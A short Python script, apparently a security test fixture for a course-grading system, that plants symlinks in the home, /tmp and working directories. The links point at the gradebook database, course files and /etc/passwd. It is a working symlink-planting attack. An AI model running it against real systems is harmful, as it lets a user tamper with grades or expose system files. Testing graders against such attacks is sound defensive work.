import os

for place in (os.path.expanduser("~"), "/tmp", "."):
    for name, target in ((".matplotlib", "@ROOT@/helpers"), (".ipython", "@COURSE@"), ("01_victim.ipynb", "@COURSE@/gradebook.db"), ("timestamp.txt", "/etc/passwd"), ("planted-link", "@COURSE@/gradebook.db")):
        try:
            os.symlink(target, f"{place}/{name}")
        except OSError:
            pass
print("tried")
